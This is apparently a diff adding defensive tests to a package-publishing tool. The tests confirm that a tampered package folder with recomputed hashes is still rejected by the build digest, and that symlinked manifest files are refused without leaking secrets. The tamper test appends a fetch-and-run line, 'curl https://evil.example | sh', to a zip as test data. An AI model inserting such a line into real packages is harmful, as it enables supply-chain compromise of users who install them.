@@ -5,6 +5,7 @@
  * that must be refused).
  */
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import {
   appendFileSync,
   cpSync,
@@ -12,6 +13,7 @@ import {
   readdirSync,
   readFileSync,
   rmSync,
+  symlinkSync,
   unlinkSync,
   statSync,
   writeFileSync,
@@ -24,7 +26,9 @@ import { run, type PublishedCheck } from '../src/core.js';
 import { isUserError } from '../src/errors.js';
 import { readInputs } from '../src/inputs/index.js';
 import { renderNames } from '../src/inputs/names.js';
+import { parsePackageDigest, readHandoffInputs } from '../src/inputs/handoff.js';
 import { loadBuiltPackage } from '../src/package/load.js';
+import { canonicalJson, packageDigest } from '../src/package/manifest.js';
 import { loadMapping } from '../src/plan/index.js';
 import { nextVersionName } from '../src/publish/version-name.js';
 import { SAMPLE_INSTALLERS, layoutAgentsDir } from './helpers/agents.js';
@@ -268,6 +272,85 @@ describe('a package folder built earlier', () => {
     unlinkSync(path.join(n, 'report.json'));
     await refused(n, /report\.json is missing/);
     await refused(path.join(work, 'nowhere'), /it does not exist/);
+  });
+
+  it('a folder rewritten with every hash recomputed passes its own checks, but not the build’s digest', async () => {
+    const digest = packageDigest(readFileSync(path.join(built, 'manifest.json')));
+    assert.match(digest, /^sha256:[0-9a-f]{64}$/);
+    await loadBuiltPackage(built, { ...expect, digest });
+    // A zip gains a line in its install script; manifest.json and report.json are recomputed to match.
+    const dir = copy('rewritten');
+    const m = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as {
+      files: Record<string, { checksums: { sha256: string } }>;
+    };
+    const name = Object.keys(m.files)[0]!;
+    const zip = Buffer.concat([
+      readFileSync(path.join(dir, name)),
+      Buffer.from('curl https://evil.example | sh'),
+    ]);
+    writeFileSync(path.join(dir, name), zip);
+    const sha = createHash('sha256').update(zip).digest('hex');
+    m.files[name]!.checksums.sha256 = sha;
+    writeFileSync(path.join(dir, 'manifest.json'), canonicalJson(m));
+    const report = JSON.parse(readFileSync(path.join(dir, 'report.json'), 'utf8')) as {
+      files: { name: string; sha256: string; size: number }[];
+    };
+    for (const f of report.files) if (f.name === name) Object.assign(f, { sha256: sha, size: zip.length });
+    writeFileSync(path.join(dir, 'report.json'), canonicalJson(report));
+    // Its own checks cannot tell: every hash in the folder is as stated.
+    await loadBuiltPackage(dir, expect);
+    await assert.rejects(loadBuiltPackage(dir, { ...expect, digest }), (err: unknown) => {
+      assert.ok(isUserError(err));
+      const msg = renderNames(err.message, 'action');
+      assert.match(
+        msg,
+        /^input "package-digest": .* is not the package that build made .*nothing was published/,
+      );
+      return true;
+    });
+  });
+
+  it('manifest.json or report.json as a symlink is refused without reading what it points at', async () => {
+    const secret = path.join(work, 'credentials');
+    writeFileSync(secret, 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n');
+    for (const f of ['manifest.json', 'report.json']) {
+      const dir = copy(`link-${f}`);
+      unlinkSync(path.join(dir, f));
+      symlinkSync(secret, path.join(dir, f));
+      await assert.rejects(loadBuiltPackage(dir, expect), (err: unknown) => {
+        const msg = String((err as Error).message);
+        assert.match(msg, new RegExp(`${f.replace('.', '\\.')} is a symbolic link`));
+        assert.doesNotMatch(msg, /aws_secret|wJalr/);
+        return true;
+      });
+    }
+    const j = copy('notjson');
+    writeFileSync(path.join(j, 'report.json'), 'aws_secret_access_key = wJalrXUtnFEMI');
+    await assert.rejects(loadBuiltPackage(j, expect), (err: unknown) => {
+      assert.match(
+        String((err as Error).message),
+        /report\.json is not valid JSON \(it does not parse as JSON\)/,
+      );
+      assert.doesNotMatch(String((err as Error).message), /wJalr/);
+      return true;
+    });
+  });
+
+  it('package-digest: parsed with or without sha256:, refused when malformed or without package-dir', () => {
+    assert.equal(parsePackageDigest(`SHA256:${'AB'.repeat(32)}`), `sha256:${'ab'.repeat(32)}`);
+    assert.equal(parsePackageDigest('ab'.repeat(32)), `sha256:${'ab'.repeat(32)}`);
+    assert.equal(parsePackageDigest('sha256:abc'), undefined);
+    const bad: string[] = [];
+    readHandoffInputs(
+      (n) => ({ 'package-digest': 'md5:1234' })[n] ?? '',
+      (n, m) => bad.push(`${n}: ${m}`),
+      work,
+    );
+    assert.match(bad.join('\n'), /package-digest: is not a package digest/);
+    assert.match(
+      bad.join('\n'),
+      /package-digest: vouches for a folder built earlier; give that folder as ⦃package-dir⦄/,
+    );
   });
 
   it('built for another package or version name: refused', async () => {
